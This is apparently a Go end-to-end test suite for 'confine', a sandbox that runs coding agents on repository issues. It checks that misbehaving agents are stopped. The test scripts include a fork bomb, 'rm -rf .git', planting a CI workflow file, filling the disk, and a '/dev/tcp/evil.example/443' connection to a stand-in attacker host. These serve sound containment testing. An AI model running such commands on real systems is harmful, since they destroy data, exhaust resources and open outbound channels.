// Package e2e runs the main job with real parts: the real kernel, git, the
// local code host, and agents that are real programs.
package e2e

import (
	"bufio"
	"context"
	"errors"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"confine/internal/agent"
	"confine/internal/boundary"
	"confine/internal/codehost"
	"confine/internal/codehost/local"
	"confine/internal/egress"
	"confine/internal/engine"
	"confine/internal/gate"
	"confine/internal/gitcmd"
	"confine/internal/handover"
	"confine/internal/merge"
	"confine/internal/proxy"
	"confine/internal/sandbox"
	"confine/internal/sandbox/native"
)

// project is a small program with a failing check and an issue about it.
type project struct {
	host  *local.Host
	o     engine.Options
	state string
	base  gitcmd.Hash
	log   *strings.Builder
}

// plainEgress lets the proxy serve a sandbox.
type plainEgress struct{ s *proxy.Server }

func (e plainEgress) Serve(s sandbox.EgressSockets) (func(), error) {
	return e.s.Serve(s.DNS, s.DNSTCP, s.Capture, s.Connect, s.Who)
}

func newProject(t *testing.T, script string) *project {
	t.Helper()
	return newProjectWith(t, []string{"sh", "-c", script}, nil)
}

func newProjectWith(t *testing.T, command []string, netMap map[egress.HostPort]netip.AddrPort) *project {
	t.Helper()
	ctx := context.Background()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := &project{state: filepath.Join(dir, "state"), log: &strings.Builder{}}
	files := map[string]string{"sum.sh": "#!/bin/sh\necho $(($1 - $2))\n", "check.sh": "#!/bin/sh\n[ \"$(sh sum.sh 2 3)\" = 5 ] || { echo sum is wrong; exit 1; }\n"}
	p.host, err = local.Init(ctx, filepath.Join(dir, "host"), local.InitOptions{
		People: map[string]codehost.Permission{"ada": codehost.PermissionWrite}, RequiredChecks: []string{"confine/gate"},
		First: func(ctx context.Context, repo *gitcmd.Repo) (gitcmd.Hash, error) {
			var entries []gitcmd.TreeEntry
			for _, name := range []string{"check.sh", "sum.sh"} {
				h, err := repo.HashObject(ctx, strings.NewReader(files[name]))
				if err != nil {
					return "", err
				}
				entries = append(entries, gitcmd.TreeEntry{Mode: 0o100644, Type: "blob", Hash: h, Path: name})
			}
			tree, err := repo.MkTree(ctx, entries)
			if err != nil {
				return "", err
			}
			who := gitcmd.Identity{Name: "Ada", Email: "ada@example.com", When: time.Now()}
			p.base, err = repo.CommitTree(ctx, gitcmd.NewCommit{Tree: tree, Author: who, Committer: who, Message: "First\n"})
			return p.base, err
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.host.AddIssue(ctx, local.NewIssue{Title: "The sum is wrong", Author: "ada", Body: "2 and 3 make 5."}); err != nil {
		t.Fatal(err)
	}
	rule, err := merge.Parse([]byte(`{"all":[{"gates":"passed"},{"host_checks":"required"}]}`))
	if err != nil {
		t.Fatal(err)
	}
	protection, err := handover.NewProtection(handover.ProtectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p.o = engine.Options{
		Host: p.host, Driver: native.New(), StateDir: p.state,
		NewEgress: func(policy egress.Policy, refused func(egress.Refusal)) (sandbox.EgressServer, error) {
			s, err := proxy.New(proxy.Options{Policy: policy, OnRefusal: refused, NetMap: netMap})
			return plainEgress{s}, err
		},
		Progress: func(e engine.Event) { p.log.WriteString(e.Stage + ": " + e.Text + "\n") },
		Output:   func(stage string, b []byte) { p.log.WriteString(stage + "> " + string(b)) },
		Config: engine.Config{
			Tenant: "demo", Repository: "demo", Digest: "sha256:test",
			View:  engine.View{Limits: boundary.Limits{Memory: 1 << 30, Pids: 500}, AllowMissing: []boundary.Layer{boundary.LayerCgroup}},
			Agent: agent.Command{Args: command},
			Stages: []engine.Stage{
				{Stage: agent.Stage{Name: "implement", Tools: []string{"read", "edit"}}, Time: time.Minute, Output: 1 << 20},
			},
			Gate:  []gate.Check{{Name: "check", Args: []string{"sh", "check.sh"}, Timeout: time.Minute}},
			Rules: handover.Rules{Protection: protection}, Leftovers: true, MergeRule: rule,
		},
	}
	return p
}

func (p *project) work(t *testing.T, until engine.Until) (engine.Record, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	rec, err := engine.Work(ctx, p.o, 1, until)
	if t.Failed() || testing.Verbose() {
		t.Log(p.log.String())
	}
	// Whatever the end, nothing is left of the run's places.
	left, _ := os.ReadDir(filepath.Join(p.state, "scratch"))
	if len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
	return rec, err
}

// tip is what the base branch of the host names.
func (p *project) tip(t *testing.T) gitcmd.Hash {
	t.Helper()
	ctx := context.Background()
	remote, err := p.host.Remote(ctx, codehost.Read)
	if err != nil {
		t.Fatal(err)
	}
	repo, err := gitcmd.Open(ctx, remote.Path)
	if err != nil {
		t.Fatal(err)
	}
	h, err := repo.RevParse(ctx, "refs/heads/main")
	if err != nil {
		t.Fatal(err)
	}
	return h
}

const fix = `sed -i 's/-/+/' sum.sh && git add -A && git -c user.name=x -c user.email=x@y commit -qm 'Fix the sum'`

func TestIssueBecomesMergedChange(t *testing.T) {
	p := newProject(t, fix)
	rec, err := p.work(t, engine.UntilMerge)
	if err != nil || rec.State != engine.Merged || rec.Landed == "" || rec.Landed != p.tip(t) {
		t.Fatalf("%v: state %s, landed %q, tip %q\n%s", err, rec.State, rec.Landed, p.tip(t), p.log)
	}
	if !rec.Verdict.Passed() || rec.Pull == 0 || rec.Rescue != "" {
		t.Errorf("record %+v", rec)
	}
}

// TestEndsWithoutMerge: each way in which an agent can fail ends in one clear
// state, with its work kept and the base untouched.
func TestEndsWithoutMerge(t *testing.T) {
	for name, c := range map[string]struct {
		script string
		state  engine.State
		reason string
		rescue bool
		change func(*engine.Options)
	}{
		"commits nothing":    {script: "true", state: engine.Failed, reason: "committed nothing"},
		"wrong fix":          {script: "echo '# no' >> sum.sh", state: engine.Failed, reason: "gate has not passed", rescue: true},
		"fails":              {script: fix + "; exit 3", state: engine.Failed, reason: "status 3", rescue: true},
		"removes .git":       {script: "sed -i 's/-/+/' sum.sh; rm -rf .git", state: engine.Failed, reason: "repository is broken", rescue: true},
		"plants a CI file":   {script: "mkdir -p .github/workflows; echo x > .github/workflows/x.yml; " + fix, state: engine.Refused, reason: "protected_path", rescue: true},
		"reaches out":        {script: fix + "; exec 2>/dev/null; getent hosts evil.example; bash -c 'exec 3<>/dev/tcp/evil.example/443'; true", state: engine.Waiting, reason: "evil.example", rescue: true},
		"adds too much":      {script: "head -c 20000000 /dev/urandom > big; " + fix, state: engine.Refused, reason: "bytes", rescue: true, change: func(o *engine.Options) { o.Config.Rules.MaxBytes, o.Config.Rules.MaxFileBytes = 1<<20, 1<<20 }},
		"amends the base":    {script: "sed -i 's/-/+/' sum.sh; git add -A; git -c user.name=x -c user.email=x@y commit -q --amend -m Base", state: engine.Refused, reason: "base", rescue: true},
		"nests a repository": {script: "git init -q inner; touch inner/x; echo '# no' >> sum.sh", state: engine.Failed, reason: "gate has not passed", rescue: true},
		"fills the disk":     {script: "head -c 200000000 /dev/zero > big; sleep 60", state: engine.Failed, reason: "disk limit", rescue: true, change: func(o *engine.Options) { o.Config.View.Limits.Disk = 50 << 20 }},
		"is not there":       {script: "", state: engine.Refused, reason: "not-there", change: func(o *engine.Options) { o.Config.Agent = agent.Command{Args: []string{"not-there"}} }},
		"takes too long":     {script: "trap '' TERM; sleep 300", state: engine.Failed, reason: "time limit", change: func(o *engine.Options) { o.Config.Stages[0].Time = time.Second }},
		"is a fork bomb":     {script: "f() { f | f & }; f; sleep 2; exit 9", state: engine.Failed, reason: "stage implement"},
		"floods its output":  {script: "head -c 30000000 /dev/zero; exit 4", state: engine.Failed, reason: "status 4"},
	} {
		t.Run(name, func(t *testing.T) {
			p := newProject(t, c.script)
			if c.change != nil {
				c.change(&p.o)
			}
			rec, err := p.work(t, engine.UntilMerge)
			if err == nil || rec.State != c.state || !strings.Contains(rec.Reason, c.reason) {
				t.Errorf("%v: state %s, reason %q\n%s", err, rec.State, rec.Reason, p.log)
			}
			var hint interface{ Hint() string }
			if !errors.As(err, &hint) || hint.Hint() == "" {
				t.Errorf("no hint: %v", err)
			}
			if (rec.Rescue != "") != c.rescue {
				t.Errorf("rescue %q", rec.Rescue)
			}
			if p.tip(t) != p.base {
				t.Error("the base moved")
			}
		})
	}
}

// TestKilledEngineLeavesNothing: a real confine process is killed while the
// agent works; the next one clears away what it left, and takes the issue over.
func TestKilledEngineLeavesNothing(t *testing.T) {
	const token = "31415.9265"
	p := newProject(t, "sleep "+token)
	dir := filepath.Dir(p.state)
	config := filepath.Join(dir, "tenant.yaml")
	text := `
version: 1
tenant: demo
repo: {url: "local:` + p.host.Dir() + `", until: merge}
view: {host: true, allow_missing: [cgroup]}
agent: {kind: command, command: [sh, -c, "sleep ` + token + `"]}
gate: {check: {run: sh check.sh}}
merge: {mode: engine, rule: {gates: passed}}
`
	if err := os.WriteFile(config, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(program(t), "work", "--config", config, "--issue", "1", "--state", p.state)
	out, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(out)
	for lines.Scan() && !strings.Contains(lines.Text(), "implement") {
	}
	// The agent's process is there before the kill, and gone after it.
	waitFor(t, "the agent", func() bool { return processWith(token) })
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	waitFor(t, "the agent's end", func() bool { return !processWith(token) })
	p.o.Config.Agent = agent.Command{Args: []string{"sh", "-c", fix}}
	rec, err := p.work(t, engine.UntilMerge)
	if err != nil || rec.State != engine.Merged {
		t.Fatalf("%v: %s %s", err, rec.State, rec.Reason)
	}
}

// program is the confine binary under test.
func program(t *testing.T) string {
	t.Helper()
	if p := os.Getenv("CONFINE_TEST_BINARY"); p != "" {
		return p
	}
	p := filepath.Join(t.TempDir(), "confine")
	cmd := exec.Command("go", "build", "-o", p, "confine/cmd/confine")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build confine: %v\n%s", err, out)
	}
	return p
}

// processWith reports whether a process has the token as an argument of sleep.
func processWith(token string) bool {
	found, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, f := range found {
		if b, err := os.ReadFile(f); err == nil && string(b) == "sleep\x00"+token+"\x00" {
			return true
		}
	}
	return false
}

func waitFor(t *testing.T, what string, there func() bool) {
	t.Helper()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	end := time.After(20 * time.Second)
	for !there() {
		select {
		case <-tick.C:
		case <-end:
			t.Fatalf("waited in vain for %s", what)
		}
	}
}
